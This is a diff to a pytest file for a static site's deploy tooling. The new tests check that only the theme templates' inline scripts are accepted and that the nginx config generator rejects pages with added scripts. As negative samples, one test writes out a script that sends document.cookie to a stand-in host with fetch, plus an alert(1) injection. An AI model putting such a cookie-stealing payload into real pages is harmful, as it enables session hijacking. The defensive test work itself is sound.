@@ -20,9 +20,10 @@ import pytest
 
 from conftest import PAGES, ROOT, free_port
 from common import serve_static
+from guide.content import inline_scripts, template_scripts, theme_template_dirs, unrecognised_scripts
 
 sys.path.insert(0, str(ROOT / "scripts"))
-from deploy_config import inline_scripts, nginx_redirects, redirect_maps, render, render_logrotate  # noqa: E402
+from deploy_config import nginx_redirects, redirect_maps, render, render_logrotate  # noqa: E402
 from search_quality import type_query  # noqa: E402
 
 NGINX = Path("/usr/sbin/nginx")
@@ -103,6 +104,33 @@ def test_inline_script_hashes_skip_data_blocks_and_external_scripts():
     html = ('<script>var a=1</script><script src="x.js"></script>'
             '<script type="application/json">{"a":1}</script><script type="text/javascript">b()</script>')
     assert inline_scripts(html) == ["var a=1", "b()"]
+
+
+def test_only_the_theme_templates_scripts_are_recognised(site):
+    """Every inline script of the built site is one a template writes (its fields filled with a
+    value, not code); a script of one's own, or a template's with code in a field, is not."""
+    patterns = template_scripts(theme_template_dirs())
+    assert patterns
+    for page in site.rglob("*.html"):
+        assert not unrecognised_scripts(page.read_text(encoding="utf-8"), patterns), page
+    palette = next(s for page in site.rglob("*.html") for s in inline_scripts(page.read_text(encoding="utf-8"))
+                   if s.startswith("__md_scope"))
+    assert unrecognised_scripts(f"<script>{palette}</script>", patterns) == []
+    forged = palette.replace('new URL("', 'new URL(alert(1)+"', 1)
+    assert forged != palette and unrecognised_scripts(f"<script>{forged}</script>", patterns) == [forged]
+    assert unrecognised_scripts("<script>fetch('//evil.example/'+document.cookie)</script>", patterns)
+
+
+def test_the_server_config_refuses_a_site_with_a_script_of_its_own(site, tmp_path):
+    import shutil as sh
+
+    copy = tmp_path / "site"
+    sh.copytree(site, copy)
+    page = copy / "risk/index.html"
+    page.write_text(page.read_text(encoding="utf-8").replace("</body>", "<script>track()</script></body>"), encoding="utf-8")
+    result = subprocess.run([sys.executable, str(ROOT / "scripts/deploy_config.py"), str(copy), str(tmp_path / "nginx.conf")],
+                            capture_output=True, text=True)
+    assert result.returncode != 0 and "risk/index.html" in result.stderr and "track()" in result.stderr, result.stderr
 
 
 # --- headers -------------------------------------------------------------------------------
@@ -634,6 +662,14 @@ def test_a_pasted_question_is_searched_through_nginx_and_never_logged_missing(br
     context.close()
     after = miss_lines(nginx)
     assert after == before, after[len(before):]
+
+
+def test_the_server_config_says_when_the_log_folder_is_missing(site, tmp_path):
+    result = subprocess.run([sys.executable, str(ROOT / "scripts/deploy_config.py"), str(site), str(tmp_path / "nginx.conf"),
+                             "--search-log", str(tmp_path / "no-such-folder/misses.log")], capture_output=True, text=True)
+    assert result.returncode == 1 and "no-such-folder does not exist" in result.stderr and "Traceback" not in result.stderr
+    assert not (tmp_path / "nginx.conf").exists()
+
 
 
 # --- the search-miss log's rotation (last: it moves the log the tests above read) -----------
